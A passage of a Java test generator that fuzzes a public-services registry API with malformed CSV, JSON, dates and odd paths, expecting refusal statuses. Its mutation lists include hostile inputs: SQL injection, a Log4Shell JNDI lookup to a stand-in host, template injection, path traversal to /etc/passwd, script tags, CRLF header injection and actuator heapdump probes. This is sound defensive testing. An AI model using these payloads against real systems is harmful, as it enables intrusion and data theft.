                            changes + " bytes changed"));
                }
                case 2 -> {
                    List<String> lines = new ArrayList<>(List.of(new String(csv, StandardCharsets.UTF_8).split("\n", -1)));
                    int line = random.nextInt(lines.size());
                    String what;
                    if (random.nextBoolean()) {
                        lines.remove(line);
                        what = "line " + (line + 1) + " dropped";
                    } else {
                        lines.add(line, lines.get(random.nextInt(lines.size())));
                        what = "a line repeated at " + (line + 1);
                    }
                    cases.add(registry(path, "text/csv", String.join("\n", lines).getBytes(StandardCharsets.UTF_8), ANY, what));
                }
                case 3 -> {
                    String text = new String(csv, StandardCharsets.UTF_8);
                    String cell = pick(List.of("Категория услуги", "Средне количество заявлений в год", "Через МФЦ",
                            "Идентификатор услуги в реестре государственных и муниципальных услуг", "региональная", ";", "\""));
                    String with = pick(List.of("", "x", "=1+1", "\"", "\u0000", "-1", "1e999999999", "+999999999-12-31"));
                    cases.add(registry(path, "text/csv", text.replaceFirst(java.util.regex.Pattern.quote(cell),
                            java.util.regex.Matcher.quoteReplacement(with)).getBytes(StandardCharsets.UTF_8), ANY,
                            "«" + cell + "» replaced by «" + with + "»"));
                }
                case 4 -> {
                    String line = pick(List.of("{\"registryId\":\"1\",\"registryId\":\"2\"}",
                            "{\"asOf\":\"+999999999-12-31\"}", "{\"applicationsPerYear\":1e-999999999}", "[1,2,3]",
                            "{\"category\":0}", "not json", "{\"name\":\"\u00ff\"}", "{}", "null",
                            "{\"registryId\":41000000000001,\"name\":\"Услуга\",\"category\":\"REGIONAL\"}"));
                    String body = line + "\n" + (random.nextBoolean() ? line + "\n" : "");
                    cases.add(registry(path, "application/x-ndjson", body.getBytes(StandardCharsets.UTF_8), ANY,
                            "JSON Lines: " + line));
                }
                default -> {
                    String type = pick(List.of("text/plain", "application/octet-stream", "image/png",
                            "multipart/form-data; boundary=x", "text/csv; charset=nonsense"));
                    // Not a registry's media type, or a charset no one knows: 415; a form without the file part: 400.
                    Set<Integer> refused = type.startsWith("multipart") ? Set.of(400) : Set.of(415);
                    cases.add(registry(path, type, csv, refused, "the example as " + type));
                }
            }
        }
        return cases;
    }

    private Case registry(String path, String type, byte[] body, Set<Integer> statuses, String what) {
        // Answers in CSV (the workbook answer is binary); the decider's key, as compose and Kubernetes require.
        return new Case(label("POST", path), "POST", path, Map.of("Content-Type", type, "Accept", "text/csv",
                "X-API-Key", DECIDER), body, false, false, statuses, null, what);
    }

    private static byte[] example(String name) {
        try {
            return java.nio.file.Files.readAllBytes(java.nio.file.Path.of("examples", name));
        } catch (java.io.IOException e) {
            throw new IllegalStateException("the example registries are read from examples/", e);
        }
    }

    // ---- paths nothing answers, and requests the container refuses before the service sees them ----

    List<Case> strangePaths(int count) {
        List<Case> cases = new ArrayList<>();
        for (String path : List.of("/error", "/api/v1/audit/verify/", "/api/v1/AUDIT/verify", "/actuator/env",
                "/actuator/heapdump", "/actuator/threaddump", "/actuator/configprops", "/h2-console", "/api/v1/decisions",
                "/api/v2/decisions/action-matrix", "/api/v1/knowledge-base/editions/x", "/favicon.ico", "/index.html",
                "/WEB-INF/web.xml", "/api/v1/decisions/action-matrix.json")) {
            cases.add(new Case("unmapped paths", "GET", path, Map.of(), null, false, false,
                    Set.of(401, 404, 405), null, "GET " + path));
        }
        cases.add(new Case("unmapped paths", "POST", "/error", Map.of("Content-Type", "application/json"),
                "{}".getBytes(StandardCharsets.UTF_8), false, false, Set.of(404), null, "POST /error"));
        cases.add(new Case("unmapped paths", "POST", "/actuator/shutdown", Map.of(), null, false, false,
                Set.of(401, 403, 404, 405), null, "POST /actuator/shutdown"));
        for (String path : List.of("/api/v1/%zz", "/api/v1/a%00b", "/api/v1/audit%2fverify", "/api/v1/audit/%2e%2e/audit/verify",
                "/api/v1/decisions/../audit/verify", "/api/v1/audit/./verify", "//api/v1/audit/verify",
                "/api/v1/audit;jsessionid=x/verify", "/api/v1/audit/verify;x=1", "/api/v1/audit/verify%20",
                "/api/v1/audit/verify?page=%zz", "/api/v1/audit\\verify", "/api/v1/audit/ver%C0%AFify",
                "/api/v1/%E2%80%AEaudit/verify", "/api/v1/audit/verify%23x", "*", "/api/v1/audit/verify HTTP/1.0\r\nX: y")) {
            cases.add(new Case("raw paths", "GET", path, Map.of(), null, false, true, Set.of(400, 401, 404, 405), null,
                    "raw GET " + path.replace("\r\n", "\\r\\n")));
        }
        cases.add(new Case("raw paths", "GET", "/actuator/health", Map.of("X-Big", "a".repeat(20_000)), null, false, true,
                Set.of(400, 431), null, "a 20 KB header"));
        cases.add(new Case("raw paths", "FOO", "/api/v1/decisions/period", Map.of(), null, false, true,
                Set.of(400, 405, 501), null, "method FOO"));
        while (cases.size() < count) {
            StringBuilder path = new StringBuilder(pick(List.of("/", "/api/", "/api/v1/", "/api/v1/decisions/",
                    "/api/v1/knowledge-base/", "/actuator/", "/v3/")));
            int length = 1 + random.nextInt(20);
            for (int i = 0; i < length; i++) {
                path.append(PATH_CHARS.charAt(random.nextInt(PATH_CHARS.length())));
            }
            cases.add(new Case("unmapped paths", "GET", path.toString(), Map.of(), null, false, false,
                    Set.of(400, 401, 404, 405), null, "GET " + path));
        }
        return cases;
    }

    private static final String PATH_CHARS = "abcxyz019-_.~";

    // ---- what the mutations put in ----

    private static final List<String> BAD_DATE_TEXTS = List.of("2018-10-01T00:00", "2018-10-01T00:00:00Z", "2018-10-1",
            "2018-1-01", " 2018-10-01", "2018-10-01 ", "+2018-10-01", "02018-10-01", "+999999999-12-31", "-999999999-01-01",
            "1999-12-31", "2101-01-01", "0000-01-01", "9999-12-31", "2018-02-30", "2018-13-01", "2018-00-10", "2018-10-00",
            "", "2018/10/01", "01.10.2018", "20181001", "2018-W40-1", "2018-274", "２０１８-10-01", "2018-10-01\u0000",
            "today", "null");
    /** As query parameters: an empty value is no value (Spring reads ?asOf= as absent), so it is left out there. */
    private static final List<String> BAD_QUERY_DATES = BAD_DATE_TEXTS.stream().filter(text -> !text.isEmpty()).toList();
    private static final List<String> BAD_QUERY_INSTANTS = List.of("zzz", "2026-01-01", "2026-01-01T00:00:00",
            "+999999999-12-31T00:00:00Z", "1999-01-01T00:00:00Z", "2026-13-01T00:00:00Z", "1700000000");
    private static final List<String> BAD_INSTANT_TEXTS = List.of("zzz", "2026-01-01", "2026-01-01T00:00:00",
            "2026-01-01 00:00:00Z", "+999999999-12-31T00:00:00Z", "1999-01-01T00:00:00Z", "2101-01-01T00:00:00Z",
            "2026-13-01T00:00:00Z", "2026-01-01T25:00:00Z", "2026-01-01T00:00:00+25:00", "1700000000", "");

    private final List<JsonNode> BAD_DATES = texts(BAD_DATE_TEXTS, List.of("[2018,10,1]", "20181001", "true", "{}",
            "1.5", "[\"2018-10-01\"]", "{\"year\":2018,\"month\":10,\"day\":1}"));
    private final List<JsonNode> BAD_MONTHS = texts(List.of("2014-3", "2014-13", "2014-00", "+999999999-12", "1999-12",
            "2014-03-01", "", "03-2014", "2014-03 "), List.of("201403", "[2014,3]", "true"));
    private final List<JsonNode> BAD_INSTANTS = texts(BAD_INSTANT_TEXTS, List.of("1700000000", "1.7e9", "[2026,1,1]", "true"));
    private static final List<String> BAD_INTEGERS = List.of("\"5\"", "true", "[1]", "{}", "1.5", "-1", "1e2", "0.0",
            "99999999999999999999999", "-99999999999999999999999", "1e-999999999", "1e999999999", "1e-2147483647",
            "9223372036854775808", "\"\"", "\"1e3\"", "-0.0");
    private static final List<String> BAD_DECIMALS = List.of("\"50\"", "true", "[50]", "{}", "-1", "100.0001",
            "1e-999999999", "1e-2147483647", "1e-2147483648", "1e999999999", "1e-19", "12345678901234567890",
            "0.0000000000000000001", "-0.5", "1" + "0".repeat(400), "\"NaN\"", "\"Infinity\"");
    private static final List<String> EVENTS = List.of("regulationApproved", "regulationReceivedForOtr",
            "planOfAmendmentsApproved", "otrDeveloped", "launched", "unknownEvent", "", " ");

    private List<JsonNode> texts(List<String> texts, List<String> raws) {
        List<JsonNode> values = new ArrayList<>();
        texts.forEach(text -> values.add(nodes.textNode(text)));
        raws.forEach(raw -> values.add(raw(raw)));
        return values;
    }

    private JsonNode raw(String text) {
        return nodes.rawValueNode(new RawValue(text));
    }

    private List<JsonNode> wrongTypes(Node node) {
        return switch (node.kind) {
            case DATE, MONTH, INSTANT, STRING -> List.of(raw("1"), raw("1.5"), raw("true"), raw("false"), raw("[]"),
                    raw("[\"x\"]"), raw("{}"), raw("-7"), raw("1e400"));
            case INTEGER -> List.of(raw("\"5\""), raw("true"), raw("[1]"), raw("{}"), raw("\"\""));
            case DECIMAL -> List.of(raw("\"50\""), raw("false"), raw("[50]"), raw("{\"value\":50}"));
            case BOOLEAN -> List.of(raw("\"true\""), raw("\"false\""), raw("1"), raw("0"), raw("\"yes\""), raw("[true]"),
                    raw("{}"), raw("\"1\""));
            case OBJECT, MAP -> List.of(raw("\"x\""), raw("1"), raw("true"), raw("[]"), raw("[{}]"));
            case ARRAY -> List.of(raw("\"x\""), raw("1"), raw("true"), raw("{}"));
        };
    }

    private static final Map<String, List<String>> VALUES = Map.ofEntries(
            Map.entry("category", List.of("REGIONAL", "MUNICIPAL", "TYPICAL_MUNICIPAL", "PRIORITY", "FEDERAL", "regional")),
            Map.entry("unit", List.of("calendar-days", "working-days", "weeks", "months", "years", "days")),
            Map.entry("direction", List.of("after", "before", "during")),
            Map.entry("kind", List.of("within", "not-earlier-than", "annual-date", "nth-weekday-of-month", "other")),
            Map.entry("jurisdiction", List.of("RU", "KZ", "BY", "ru")),
            Map.entry("chairVote", List.of("approve", "return", "abstain")),
            Map.entry("decreeNonWorkingDays", List.of("count-as-working", "skip", "SKIP")),
            Map.entry("language", List.of("ru", "kk", "en")),
            Map.entry("act", List.of("ru.kamchatka_guidelines", "kz.decree_845", "kz.order_133", "ru.smolensk_order_451",
                    "ru.civil_code", "kz.administrative_procedures", "xx.none")),
            Map.entry("step", List.of("plan-of-amendments", "registry-passport", "otr-development", "implementation",
                    "remarks-fixed", "launch", "electronic-availability", "plan-schedule-approval",
                    "submission-to-authorized-body", "commission-meeting", "materials-to-members", "list-of-services",
                    "materials", "roadmap", "nonsense")),
            Map.entry("document", List.of("survey-report", "action-plan", "covering-letter", "materials", "questionnaire",
                    "roadmap", "letter")),
            Map.entry("quarter", List.of("2016-Q1", "2016-Q4", "2017-Q2", "2018-Q3", "2030-Q1", "2016-Q5")),
            Map.entry("weekday", List.of("MONDAY", "FRIDAY", "SUNDAY", "monday")),
            Map.entry("monthDay", List.of("03-30", "02-29", "12-31", "13-01")),
            Map.entry("against", List.of("current", "sha256:0", "")),
            Map.entry("decision", List.of("action-matrix", "period", "plan-status", "x")));
    private static final List<String> STRINGS = List.of("", " ", "x", "1", "\u0000", "'; drop table receipt; --",
            "${jndi:ldap://example.invalid/a}", "#{7*7}", "{{7*7}}", "../../etc/passwd", "Выдача", "\uD83D\uDE00",
            "\u202Eevil", "a".repeat(3000), "<script>alert(1)</script>", "%s%n%x", "\\u0000", "null");

    private JsonNode plausible(Node node) {
        String field = node.path.isEmpty() ? "" : String.valueOf(node.path.get(node.path.size() - 1));
        return switch (node.kind) {
            case DATE -> nodes.textNode(randomDate().toString());
            case MONTH -> nodes.textNode(randomDate().toString().substring(0, 7));
            case INSTANT -> nodes.textNode(randomDate() + "T" + String.format("%02d:%02d:00Z", random.nextInt(24), random.nextInt(60)));
            case INTEGER -> field.equals("limit") ? nodes.numberNode(1 + random.nextInt(5))
                    : nodes.numberNode(pick(List.of(0, 1, 2, 3, 4, 5, 6, 10, 12, 99, 100, 101, 1000, 2000, 2021, 2100, 3650,
                            random.nextInt(1_000_000), Integer.MAX_VALUE, -1)));
            case DECIMAL -> nodes.numberNode(new java.math.BigDecimal(random.nextInt(100_001)).movePointLeft(random.nextInt(4)));
            case BOOLEAN -> nodes.booleanNode(random.nextBoolean());
            case STRING -> {
                if (node.inArray && node.path.size() > 1 && "cells".equals(node.path.get(node.path.size() - 2))) {
                    yield nodes.textNode(pick(List.of("1", "0", "-", "discretionary", "2")));
                }
                List<String> values = VALUES.get(field);
                yield nodes.textNode(values != null && random.nextInt(5) > 0 ? pick(values) : pick(STRINGS));
            }
            default -> node.value;
        };
    }

    /** A date of the years the service takes, half of them within the calendars' years. */
    private LocalDate randomDate() {
        if (random.nextBoolean()) {
            return LocalDate.of(2013, 1, 1).plusDays(random.nextInt(14 * 365));
        }
        return LocalDate.of(2000, 1, 1).plusDays(random.nextInt(101 * 365));
    }

    /** The request broken as text, with what was done to it. */
    private String[] malformed(byte[] valid) {
        String text = new String(valid, StandardCharsets.ISO_8859_1);
        String[] broken = breakText(text);
        // Every way above breaks any of the valid requests; should one not have, it is cut short instead.
        return broken[1].equals(text) ? new String[] {"cut before the end", text.substring(0, text.length() - 1)} : broken;
    }

    private String[] breakText(String text) {
        int at = random.nextInt(text.length());
        return switch (random.nextInt(14)) {
            case 0 -> new String[] {"cut after " + at + " bytes", text.substring(0, at)};
            // Not after a backslash: \" is an escaped quote, and the text would still be JSON.
            case 1 -> at > 0 && text.charAt(at - 1) == '\\' ? new String[] {"cut after " + at + " bytes", text.substring(0, at)}
                    : new String[] {"a quote inserted at " + at, text.substring(0, at) + '"' + text.substring(at)};
            case 2 -> new String[] {"a control character at " + at, text.substring(0, at) + '\u0001' + text.substring(at)};
            case 3 -> new String[] {"a byte 0xFF at " + at, text.substring(0, at) + '\u00FF' + text.substring(at)};
            case 4 -> new String[] {"= for the first :", text.replaceFirst(":", "=")};
            case 5 -> new String[] {"trailing tokens", text + pick(List.of("}", "{}", "x", ",", "]", "[]", "null"))};
            case 6 -> new String[] {"a trailing comma", text.substring(0, text.length() - 1) + ",}"};
            case 7 -> new String[] {"single quotes", text.replace('"', '\'')};
            case 8 -> new String[] {"a comment", "/* x */" + text};
            case 9 -> new String[] {"not an object", pick(List.of("[]", "\"x\"", "1", "true", "null", "[{}]", "", " ", "\n"))};
            case 10 -> new String[] {"3000 arrays deep", "[".repeat(3000) + "]".repeat(3000)};
            case 11 -> new String[] {"NaN for a number", text.replaceFirst(":(-?\\d+(\\.\\d+)?)([,}])", ":NaN$3").equals(text)
                    ? "{\"asOf\":NaN}" : text.replaceFirst(":(-?\\d+(\\.\\d+)?)([,}])", ":NaN$3")};
            case 12 -> new String[] {"a bad escape", text.replaceFirst("\":\"", "\":\"\\\\q")};
            default -> new String[] {"two objects", text + text};
        };
    }

    private static byte[] padded(byte[] valid, int spaces) {
        String text = new String(valid, StandardCharsets.UTF_8);
        return (text.substring(0, text.length() - 1) + " ".repeat(spaces) + "}").getBytes(StandardCharsets.UTF_8);
    }

    // ---- the JSON tree: what is where ----

    enum Leaf {
        DATE(true), MONTH(true), INSTANT(true), STRING(true), INTEGER(true), DECIMAL(true), BOOLEAN(true),
        OBJECT(false), MAP(false), ARRAY(false);

        final boolean scalar;

        Leaf(boolean scalar) {
            this.scalar = scalar;
        }
    }

    /** A node of a request: its path (field names and array indexes), value and kind. */
    record Node(List<Object> path, JsonNode value, Leaf kind, boolean inMap, boolean inArray) {
        String name() {
            StringBuilder name = new StringBuilder();
            for (Object step : path) {
                if (step instanceof Integer index) {
                    name.append('[').append(index).append(']');
                } else {
                    name.append(name.isEmpty() ? "" : ".").append(step);
                }
            }
            return name.toString();
        }
    }

    private List<Node> walk(JsonNode root, Endpoint endpoint) {
        List<Node> found = new ArrayList<>();
        walk(root, new ArrayList<>(), false, false, endpoint, found::add);
        return found;
    }

    private void walk(JsonNode node, List<Object> path, boolean inMap, boolean inArray, Endpoint endpoint,
                      Consumer<Node> found) {
        String name = new Node(path, node, Leaf.OBJECT, false, false).name();
        if (node.isObject()) {
            boolean map = endpoint.maps().contains(name);
            found.accept(new Node(List.copyOf(path), node, map ? Leaf.MAP : Leaf.OBJECT, inMap, inArray));
            for (Iterator<Map.Entry<String, JsonNode>> fields = node.fields(); fields.hasNext(); ) {
                Map.Entry<String, JsonNode> field = fields.next();
                List<Object> next = new ArrayList<>(path);
                next.add(field.getKey());
                walk(field.getValue(), next, map, false, endpoint, found);
            }
        } else if (node.isArray()) {
            found.accept(new Node(List.copyOf(path), node, Leaf.ARRAY, inMap, inArray));
            for (int i = 0; i < node.size(); i++) {
                List<Object> next = new ArrayList<>(path);
                next.add(i);
                walk(node.get(i), next, false, true, endpoint, found);
            }
        } else {
            Leaf kind;
            if (node.isBoolean()) {
                kind = Leaf.BOOLEAN;
            } else if (node.isNumber()) {
                kind = endpoint.decimals().contains(name) ? Leaf.DECIMAL : Leaf.INTEGER;
            } else if (node.asText().matches("\\d{4}-\\d{2}-\\d{2}")) {
                kind = Leaf.DATE;
            } else if (node.asText().matches("\\d{4}-\\d{2}-\\d{2}T.*")) {
                kind = Leaf.INSTANT;
            } else if (name.equals("month")) {
                kind = Leaf.MONTH;
            } else {
                kind = Leaf.STRING;
            }
            found.accept(new Node(List.copyOf(path), node, kind, inMap, inArray));
        }
    }

    private static JsonNode at(JsonNode root, List<Object> path) {
        JsonNode node = root;
        for (Object step : path) {
            node = step instanceof Integer index ? node.get(index) : node.get((String) step);
        }
        return node;
    }

    private static JsonNode replaced(JsonNode root, List<Object> path, JsonNode value) {
        if (path.isEmpty()) {
            return value;
        }
        JsonNode copy = root.deepCopy();
        JsonNode parent = at(copy, path.subList(0, path.size() - 1));
        Object last = path.get(path.size() - 1);
        if (last instanceof Integer index) {
            ((ArrayNode) parent).set(index, value);
        } else {
            ((ObjectNode) parent).set((String) last, value);
        }
        return copy;
    }

    /** The request as text with one field of one object written twice: Jackson's own writer would not. */
    private byte[] duplicated(JsonNode root, List<Object> objectPath, String name, JsonNode second) {
        StringBuilder out = new StringBuilder();
        write(root, new ArrayList<>(), objectPath, name, second, out);
        return out.toString().getBytes(StandardCharsets.UTF_8);
    }

    private void write(JsonNode node, List<Object> path, List<Object> target, String name, JsonNode second,
                       StringBuilder out) {
        if (node.isObject()) {
            out.append('{');
            boolean first = true;
            for (Iterator<Map.Entry<String, JsonNode>> fields = node.fields(); fields.hasNext(); ) {
                Map.Entry<String, JsonNode> field = fields.next();
                List<Object> next = new ArrayList<>(path);
                next.add(field.getKey());
                out.append(first ? "" : ",").append(text(nodes.textNode(field.getKey()))).append(':');
                write(field.getValue(), next, target, name, second, out);
                if (path.equals(target) && field.getKey().equals(name)) {
                    out.append(',').append(text(nodes.textNode(name))).append(':').append(text(second));
                }
                first = false;
            }
            out.append('}');
        } else if (node.isArray()) {
            out.append('[');
            for (int i = 0; i < node.size(); i++) {
                List<Object> next = new ArrayList<>(path);
                next.add(i);
                out.append(i == 0 ? "" : ",");
                write(node.get(i), next, target, name, second, out);
            }
            out.append(']');
        } else {
            out.append(text(node));
        }
    }

    private JsonNode read(String text) {
        try {
            return json.readTree(text);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private byte[] bytes(JsonNode node) {
        return text(node).getBytes(StandardCharsets.UTF_8);
    }

    private String text(JsonNode node) {
        try {
            return json.writeValueAsString(node);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String join(String parent, String name) {
        return parent.isEmpty() ? name : parent + "." + name;
    }

    static String label(String method, String path) {
        return method + " " + path.replaceAll("\\?.*", "").replaceAll("/decisions/[0-9a-f-]{36}", "/decisions/{id}")
                .replaceAll("/knowledge-bases/.+", "/knowledge-bases/{version}").replaceAll("/streams/[^/]+/", "/streams/{n}/");
    }

    @SafeVarargs
    private static <T> Set<T> union(Set<T>... sets) {
        Set<T> all = new java.util.HashSet<>();
        for (Set<T> set : sets) {
            all.addAll(set);
        }
        return Set.copyOf(all);
    }
}
